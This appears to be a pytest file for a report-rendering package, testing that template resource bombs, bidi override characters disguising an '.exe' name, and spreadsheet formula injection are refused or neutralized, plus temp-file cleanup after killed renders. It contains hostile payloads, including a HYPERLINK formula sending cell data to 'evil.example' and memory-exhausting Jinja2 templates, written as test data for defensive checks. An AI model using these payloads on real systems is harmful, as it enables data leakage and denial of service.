"""Hostile templates and outputs (issue 10): loops, huge text, formula injection, bidi
overrides and temporary files left by a killed render."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest

from evalkit.errors import RenderError
from evalkit.report.environment import make_environment

# ---- template limits ------------------------------------------------------------------------

BOMBS = {
    "nested loops": "{% for i in range(100000) %}{% for j in range(100000) %}x{% endfor %}"
                    "{% endfor %}",
    "1 GB join": "{{ range(100000)|join('x' * 10000) }}",
    "join method": "{{ ('x' * 100000).join(range(100000)|map('string')) }}",
    "doubling ~": "{% set ns = namespace(s='ab') %}{% for i in range(60) %}"
                  "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
    "doubling +": "{% set ns = namespace(s='ab') %}{% for i in range(60) %}"
                  "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s|length }}",
    "% width": "{{ '%100000000d' % 1 }}",
    "format width": "{{ '{:100000000}'.format(1) }}",
    "format filter": "{{ '%100000000s'|format('x') }}",
    "center": "{{ 'a'|center(1000000000) }}",
    "ljust": "{{ 'a'.ljust(1000000000) }}",
    "replace method": "{{ ('x' * 100000).replace('x', 'y' * 100000) }}",
    "replace filter": "{{ ('x' * 100000)|replace('x', 'y' * 100000) }}",
    "indent": "{{ ('x\\n' * 50000)|indent(100000) }}",
    "output": "{% for i in range(1000) %}{{ 'x' * 100000 }}{% endfor %}",
}


@pytest.mark.parametrize("body", list(BOMBS.values()), ids=list(BOMBS))
def test_template_bombs_stop_with_render_error(demo_ev: Any, tmp_path: Path, body: str) -> None:
    folder = tmp_path / "tpl"
    folder.mkdir()
    (folder / "evaluation.html.j2").write_text(body, encoding="utf-8")
    out = tmp_path / "out.html"
    with pytest.raises(RenderError, match="unsafe operation refused"):
        demo_ev.render(out, lang="en", template_dir=folder)
    assert not out.exists()
    assert [p.name for p in tmp_path.iterdir()] == ["tpl"]  # no temporary file either


def test_time_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    from jinja2.exceptions import SecurityError

    from evalkit.report import limits

    monkeypatch.setattr(limits, "MAX_SECONDS", 0.0)
    env = make_environment("en", kind="markdown")
    with pytest.raises(SecurityError, match="longer than"):
        env.from_string("{% for i in range(10) %}{{ i }}{% endfor %}").render()


def test_ordinary_templates_are_unchanged() -> None:
    env = make_environment("en")
    page = env.from_string(
        "{% for k, v in {'a': 1}.items() %}{{ loop.index }}/{{ loop.length }}{{ k }}{{ v }}"
        "{% else %}none{% endfor %}{% for x in [] %}{% else %}empty{% endfor %}"
        "{{ 'x' ~ '<' }}{{ 'a' + 'b' }}{{ '%s-%d' % ('a', 3) }}{{ ['<', 2]|join(',') }}"
        "{{ '<b>'|e ~ 'c' }}{{ 'ab'|replace('a', 'c') }}{{ '{}!'.format('hi') }}"
        "{% set x %}{% for i in range(3) %}{{ i }}{% endfor %}{% endset %}{{ x }}").render()
    assert page == "1/1a1empty" "x&lt;ab" "a-3" "&lt;,2" "&lt;b&gt;c" "cb" "hi!" "012"


def test_huge_numbers_print_in_scientific_notation() -> None:
    # before: fmt_num(1e308) printed 309 digits
    from evalkit.assess.acceptance import fmt
    from evalkit.report.environment import fmt_num, fmt_pct, fmt_signed

    assert fmt_num(1e308) == "1e+308" and fmt_num(-2.5e20, 2) == "-2.5e+20"
    assert fmt_pct(1e306) == "1e+308%" and fmt_signed(1e300) == "+1e+300"
    assert fmt(1e308) == "1e+308"
    assert fmt_num(123456.75) == "123,456.8" and fmt_pct(0.934) == "93%"


# ---- bidi controls --------------------------------------------------------------------------

RLO = "\u202e"


def test_bidi_overrides_are_stripped_from_reports(demo_ev: Any, tmp_path: Path) -> None:
    import report_helpers as rh

    sat = demo_ev.evidence.tables["satisfaction"].copy()
    sat["comment"] = f"good service {RLO}gnp.exe\u2066x\u2069"
    ev = rh.with_table(demo_ev, "satisfaction", sat)
    for suffix in ("html", "md"):
        out = ev.render(tmp_path / f"r.{suffix}", lang="en")
        text = out.read_text(encoding="utf-8")
        assert "gnp.exe" in text, suffix
        assert RLO not in text and "\u2066" not in text and "\u2069" not in text, suffix


def test_bidi_in_a_template_value_is_stripped() -> None:
    env = make_environment("en")
    assert env.from_string("{{ x }}|{{ y }}").render(x=f"a{RLO}b", y=3) == "ab|3"


# ---- spreadsheet formula injection ----------------------------------------------------------

def test_scorecard_xlsx_neutralizes_formulas(tmp_path: Path) -> None:
    import openpyxl

    from evalkit.assess.scorecard import score_scorecard
    from evalkit.data.excel import read_scorecard_xlsx
    from evalkit.report.scorecard_xlsx import write_scorecard_xlsx

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["一级指标", "二级指标", "分值"])
    ws.append(["管理", "档案", 10])
    ws.append(["成效", "满意度", 90])
    wb.save(tmp_path / "card.xlsx")
    sheet = read_scorecard_xlsx(tmp_path / "card.xlsx")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ratings = {"third_party": {
        "1.1": {"value": 8, "reason": f"+1{RLO}cmd", "evidence": evil},
        "2.1": {"value": 80, "reason": "@SUM(A1:A2)", "evidence": "-2 files"}}}
    result = score_scorecard(sheet.spec, ratings=ratings)
    out = write_scorecard_xlsx(result, tmp_path / "card.xlsx", tmp_path / "scored.xlsx")
    ws2 = openpyxl.load_workbook(out)["Sheet"]
    cells = [c for row in ws2.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + evil in texts and "'-2 files" in texts  # evidence text, as typed
    assert "第三方：+1cmd" in texts  # a reason starts with the rater's role: already inert
    assert not any(RLO in t for t in texts)


def test_spreadsheet_text_rule() -> None:
    from evalkit._text import spreadsheet_text

    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_text(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_text("ok =1") == "ok =1" and spreadsheet_text(-3.0) == -3.0


# ---- temporary files and signals ------------------------------------------------------------

def _wait_for(predicate: Any, proc: subprocess.Popen[bytes], limit: float = 120.0) -> None:
    start = time.monotonic()
    while not predicate():
        if proc.poll() is not None:
            raise AssertionError(f"child ended early: {proc.stderr.read() if proc.stderr else ''}")
        if time.monotonic() - start > limit:  # pragma: no cover - a hung child
            proc.kill()
            raise AssertionError("child never started writing")
        time.sleep(0.05)


def _child(code: str, tmp_path: Path) -> subprocess.Popen[bytes]:
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    return subprocess.Popen([sys.executable, "-c", textwrap.dedent(code)], cwd=tmp_path,
                            env=env, stderr=subprocess.PIPE)


@pytest.mark.skipif(not hasattr(signal, "SIGTERM") or os.name != "posix", reason="POSIX only")
@pytest.mark.parametrize("sig", ["SIGTERM", "SIGINT"])
def test_killed_writer_leaves_no_temp_file(tmp_path: Path, sig: str) -> None:
    proc = _child("""
        import time
        from evalkit._atomic import atomic_path
        with atomic_path("out/report.pdf") as tmp:
            time.sleep(600)
        """, tmp_path)
    out = tmp_path / "out"
    _wait_for(lambda: out.is_dir() and any(out.iterdir()), proc)
    proc.send_signal(getattr(signal, sig))
    proc.wait(timeout=60)
    assert proc.returncode != 0
    assert list(out.iterdir()) == []


@pytest.mark.slow
@pytest.mark.skipif(os.name != "posix", reason="POSIX only")
def test_killed_pdf_render_leaves_no_temp_file(tmp_path: Path) -> None:
    pytest.importorskip("weasyprint")
    proc = _child("""
        import evalkit as ek
        ev = ek.evaluate(ek.load_project(ek.datasets.path("workers_home") / "project.yaml"))
        ev.render("out/report.pdf", lang="en")
        """, tmp_path)
    out = tmp_path / "out"
    _wait_for(lambda: out.is_dir() and any(p.name.startswith(".report.pdf.")
                                           for p in out.iterdir()), proc)
    proc.send_signal(signal.SIGTERM)
    proc.wait(timeout=120)
    assert proc.returncode == 128 + signal.SIGTERM
    assert list(out.iterdir()) == []
